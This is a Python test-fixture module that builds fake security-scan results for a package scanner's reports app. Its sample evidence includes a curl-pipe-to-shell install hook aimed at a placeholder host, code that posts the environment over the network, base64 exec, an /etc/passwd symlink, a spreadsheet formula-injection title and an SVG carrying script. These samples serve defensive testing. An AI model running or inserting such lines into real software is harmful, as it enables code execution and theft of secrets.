"""Test data of the reports app: scans with findings in every category, made directly with the ORM.

Call these inside the organization's schema (`with schema_context(...)`). A scan built by
`scan_with_findings` has failed and warning findings in every category (with the evidence
the analyzers write: advisory ids, aliases, CVSS, fixed versions; hook names; masked
secrets...), passed and not-applicable rows, one analyzer error, category scores, and an
earlier scan of the same package to compare with.
"""

from __future__ import annotations

import hashlib
import io
import itertools
from datetime import timedelta
from typing import Any

import factory
from django.utils import timezone
from PIL import Image

from scanning.models import CategoryScore, Finding, Scan
from scanning.reports.models import SECTION_ORDER, ReportTemplate

_counter = itertools.count(1)


def fingerprint(*parts: Any) -> str:
    return hashlib.sha256("\x00".join(str(p) for p in parts).encode()).hexdigest()


class ReportTemplateFactory(factory.django.DjangoModelFactory):
    class Meta:
        model = ReportTemplate

    name = factory.Sequence(lambda n: f"Template {n}")
    title = "Security report"
    accent_color = "#0f766e"
    sections = factory.LazyFunction(lambda: list(SECTION_ORDER))


def png_bytes(width: int = 64, height: int = 32, colour: tuple[int, int, int] = (15, 118, 110)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, format="PNG")
    return out.getvalue()


def jpeg_bytes(width: int = 40, height: int = 40) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, format="JPEG")
    return out.getvalue()


SVG_LOGO = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b'<image href="http://127.0.0.1:9/x.png"/><script>alert(1)</script></svg>')

# check id, category, severity, status, title, file, line, evidence
FINDINGS: list[tuple[str, str, str, str, str, str, int | None, dict[str, Any]]] = [
    ("VULN-PKG-001", "vulnerability", "critical", "failed", "{name} {version}: GHSA-7rjr-3q55-vv33 Template "
     "injection in the config loader", "", None,
     {"advisory": "GHSA-7rjr-3q55-vv33", "aliases": ["CVE-2026-1111", "PYSEC-2026-11"], "package": "{name}",
      "version": "{version}", "severity": "critical", "cvss_score": 9.8,
      "cvss_vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "affected": ">= 2.0.0, < 2.0.4",
      "fixed": ["2.0.4"], "upgrade_to": "2.0.4"}),
    ("VULN-DEP-001", "vulnerability", "high", "failed", "urllib4 1.26.4: GHSA-q2x7-8rv6-6q7h Header injection",
     "{pkg}-{version}.dist-info/METADATA", None,
     {"advisory": "GHSA-q2x7-8rv6-6q7h", "aliases": ["CVE-2026-2222"], "package": "urllib4", "version": "1.26.4",
      "severity": "high", "cvss_score": 7.5, "affected": "< 1.26.5", "fixed": ["1.26.5"], "upgrade_to": "1.26.5",
      "source": "Requires-Dist"}),
    ("MAL-EXEC-001", "malicious_code", "critical", "failed", "Executes decoded or obfuscated code",
     "{pkg}/__init__.py", 14, {"snippet": "exec(base64.b64decode(BLOB))", "decoding": ["base64"]}),
    ("MAL-EXFIL-001", "malicious_code", "critical", "failed", "Sends credentials or the environment over the network",
     "{pkg}/telemetry.py", 31, {"snippet": "requests.post(URL, data=dict(os.environ))"}),
    ("PKG-HOOK-001", "install_hooks", "low", "warning", "Runs code at install time", "setup.py", None,
     {"hook": "setup.py", "command": "setup.py install"}),
    ("PKG-HOOK-002", "install_hooks", "critical", "failed", "Downloads and executes code at install time",
     "setup.py", 22, {"script": "setup.py", "snippet": "os.system('curl -s https://x.invalid/p | sh')",
                      "hook": "setup.py"}),
    ("SEC-CLOUD-001", "secrets", "high", "failed", "Cloud provider credential", "{pkg}/settings.py", 3,
     {"file": "{pkg}/settings.py", "line": 3, "kind": "AWS access key id", "masked": "AKIA… (20 characters)"}),
    ("SEC-KEY-001", "secrets", "high", "failed", "Private key", "{pkg}/certs/server.key", 1,
     {"file": "{pkg}/certs/server.key", "line": 1, "kind": "RSA private key", "masked": "----… (1675 characters)"}),
    ("LIC-UNKNOWN-001", "license", "medium", "failed", "License not recognised", "", None,
     {"declared": "Custom"}),
    ("LIC-DECLARED-001", "license", "info", "passed", "Declared license", "", None,
     {"spdx": "LicenseRef-Custom"}),
    ("TYPO-NAME-001", "typosquatting", "high", "failed", "Name is one typo away from a popular package", "", None,
     {"name": "{name}", "imitates": "requests", "how": "one substitution"}),
    ("PKG-META-005", "metadata", "low", "warning", "=cmd|' /C calc'!A0 descriptive fields are empty", "", None, {}),
    ("PKG-INT-005", "integrity", "high", "failed", "Symlink leaves the package", "{pkg}/evil-link", None,
     {"target": "../../../../etc/passwd"}),
    ("PKG-META-001", "metadata", "high", "passed", "Package name differs from the name submitted", "", None, {}),
    ("PKG-META-006", "metadata", "medium", "not_applicable", "Native binaries bundled in a source package", "", None,
     {}),
    ("MAL-MINER-001", "malicious_code", "high", "error", "Cryptominer markers", "", None, {}),
]
CATEGORY_SCORES = {"vulnerability": 20, "malicious_code": 30, "install_hooks": 45, "secrets": 60, "license": 70,
                   "typosquatting": 60, "metadata": 92, "integrity": 80}


def _fill(value: Any, **names: str) -> Any:
    if isinstance(value, str):
        return value.format(**names)
    if isinstance(value, list):
        return [_fill(v, **names) for v in value]
    if isinstance(value, dict):
        return {k: _fill(v, **names) for k, v in value.items()}
    return value


def make_scan(*, name: str, version: str, submitted_by: Any = None, score: int = 28, grade: str = "F",
              verdict: str | None = "block", ecosystem: str = "pypi", age_days: int = 0,
              findings: list[tuple[Any, ...]] | None = None, previous: Scan | None = None) -> Scan:
    now = timezone.now() - timedelta(days=age_days)
    pkg = name.replace("-", "_")
    scan = Scan.objects.create(
        source=Scan.Source.UPLOAD, target=f"{pkg}-{version}-py3-none-any.whl", ecosystem=ecosystem, name=name,
        version=version, submitted_name=name, submitted_version=version,
        filename=f"{pkg}-{version}-py3-none-any.whl", sha256=fingerprint("artifact", name, version, next(_counter)),
        size=48_213, status=Scan.StatusChoices.COMPLETED, stage=Scan.Stage.COMPLETE, progress=100,
        submitted_by=submitted_by, score=score, grade=grade, verdict=verdict, finished_at=now,
        package_metadata={"found": True, "name": name, "version": version, "summary": "Helpers for tests",
                          "license": "Custom", "dependency_count": 4, "install_scripts": ["setup.py"]},
        previous_scan=None)
    Scan.objects.filter(pk=scan.pk).update(created_at=now - timedelta(seconds=5))
    scan.refresh_from_db()
    rows = []
    for check_id, category, severity, status, title, path, line, evidence in (findings or FINDINGS):
        names = {"name": name, "version": version, "pkg": pkg}
        path = _fill(path, **names)
        rows.append(Finding(scan=scan, check_id=check_id, title=_fill(title, **names), category=category,
                            severity=severity, status=status, detail=f"{_fill(title, **names)}: see the evidence.",
                            evidence=_fill(evidence, **names), file_path=path, line=line, weight=8,
                            score=0 if status == "failed" else 8,
                            fingerprint=fingerprint(check_id, path, _fill(evidence, **names).get("advisory", title))))
    Finding.objects.bulk_create(rows)
    CategoryScore.objects.bulk_create([CategoryScore(scan=scan, category=c, score=s, weight=20, counts={})
                                       for c, s in CATEGORY_SCORES.items()])
    return scan


def scan_with_findings(*, name: str = "acme-widgets", version: str = "2.0.1", submitted_by: Any = None) -> Scan:
    """A scan with findings in every category, and an earlier version of the same package scanned before it."""
    earlier = [f for f in FINDINGS if f[0] in ("VULN-PKG-001", "LIC-UNKNOWN-001", "SEC-URL-001")] + [
        ("SEC-URL-001", "secrets", "medium", "failed", "Credentials in a URL", "{pkg}/db.py", 9,
         {"kind": "URL with password", "masked": "post… (40 characters)"})]
    make_scan(name=name, version="1.9.0", submitted_by=submitted_by, score=61, grade="D", verdict="warn",
              age_days=20, findings=earlier)
    return make_scan(name=name, version=version, submitted_by=submitted_by)
